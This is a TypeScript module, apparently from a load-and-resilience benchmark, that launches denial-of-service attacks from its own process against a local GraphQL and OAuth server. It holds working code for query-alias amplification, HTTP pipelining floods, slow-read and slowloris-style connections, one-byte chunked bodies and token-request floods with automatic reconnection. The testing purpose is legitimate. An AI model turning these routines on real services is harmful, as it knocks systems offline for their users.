// Attacks on what belongs to all callers, from a process of its own.
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { rawRequest } from '../dataset/requests.ts';

export type Attack = {
  name: keyof typeof ATTACKS;
  url: string;
  /** The header of the attacker's own key. */
  key: Record<string, string>;
  /** The headers with the secrets of the attacker's own apps. */
  apps: Record<string, string>[];
  /** The third part of the addresses that it comes from, so that each attack has its own. */
  net: number;
  seconds: number;
};

type Send = Omit<Attack, 'name' | 'seconds'>;

const LOOK_UP = 'memberByEmail(email: "member1@bench.example")';
const WIDE = `query ($keys: [MemberKey!]!) { memberLookups(keys: $keys) { member { ${names(90, 'email')} } } }`;
const HUNDRED = Array.from({ length: 100 }, () => ({ email: 'member1@bench.example' }));

/** When the other callers' load has begun. */
const BEGINS_MS = 2_000;

export const ATTACKS = {
  '300 new documents at once': (attack: Send) =>
    onEach(attack, 300, 1, (n) =>
      query(attack, `{ a${n}: ${LOOK_UP} { ${names(150, 'tier', n)} } }`),
    ),
  '500 connections with 3,400 requests each': (attack: Send) =>
    onEach(attack, 500, 4, () => 'GET / HTTP/1.1\r\n\r\n'.repeat(3_400)),
  '60 connections that do not read': (attack: Send) =>
    onEach(attack, 60, 1, (_, socket) => {
      socket.pause();
      return query(attack, WIDE, { keys: HUNDRED }).repeat(40);
    }),
  '2,048 slow bodies': (attack: Send) =>
    onEach({ ...attack, key: {} }, 2_048, 4, () => query(attack, '{ __typename }').slice(0, -5)),
  '30 bodies in chunks of one byte': (attack: Send) =>
    onEach(attack, 30, 1, () => {
      const { url, key } = attack;
      const head = rawRequest(url, { ...key, 'transfer-encoding': 'chunked' }, '');
      return head.replace(/content-length: 0\r\n/, '') + '1\r\n \r\n'.repeat(20_000);
    }),
  '480 connections that ask for tokens with valid secrets': (attack: Send) =>
    onEach(attack, 480, 1, (n) => askForToken(attack, attack.apps[n % attack.apps.length]), true),
  '1,400 connections that ask for tokens without a credential': (attack: Send) =>
    onEach(attack, 1_400, 3, () => askForToken(attack), true),
};

function askForToken({ url }: Send, app: Record<string, string> = {}): string {
  const headers = { ...app, 'content-type': 'application/x-www-form-urlencoded' };
  const body = `grant_type=refresh_token${app.authorization ? '&refresh_token=guess' : ''}`;
  return rawRequest(new URL('/oauth/token', url).href, headers, body);
}

function query({ url, key }: Send, text: string, variables = {}): string {
  return rawRequest(url, key, JSON.stringify({ query: text, variables }));
}

function names(count: number, field: string, unique = 0): string {
  return Array.from({ length: count }, (_, n) => `${'f'.repeat(12)}${unique}x${n}: ${field}`).join(
    ' ',
  );
}

/**
 * Writes to so many connections of so many addresses, none of which is the other callers'. It is
 * ready before that, since its own start takes much of the core that it shares with them. With
 * `repeats`, it writes again after each response, and on a new connection if one is closed.
 */
async function onEach(
  { url, net }: Send,
  connections: number,
  addresses: number,
  text: (number: number, socket: Socket) => string,
  repeats = false,
): Promise<void> {
  const { hostname: host, port } = new URL(url);
  const open = (n: number) => {
    const localAddress = `127.0.${net}.${2 + (n % addresses)}`;
    return connect({ port: Number(port), host, localAddress }).on('error', () => {});
  };
  const sockets: Socket[] = [];
  for (let n = 0; n < connections; n += 1) {
    const socket = open(n).resume();
    sockets.push(socket);
    await once(socket, 'connect');
  }
  const texts = sockets.map((socket, n) => text(n, socket));
  const repeat = (socket: Socket, n: number) => {
    const send = () => socket.write(texts[n] ?? '');
    socket.setEncoding('latin1').on('data', (part: string) => part.startsWith('HTTP/') && send());
    socket.on('close', () => repeat(open(n), n)).on('connect', send);
  };
  if (repeats) sockets.forEach(repeat);
  console.log('ready');
  await pause(BEGINS_MS);
  for (const [n, socket] of sockets.entries()) socket.write(texts[n] ?? '');
}

if (process.argv[1] === import.meta.filename) {
  const { name, seconds, ...attack }: Attack = JSON.parse(process.argv[2] ?? '');
  await ATTACKS[name](attack);
  await pause(seconds * 1_000);
  process.exit();
}
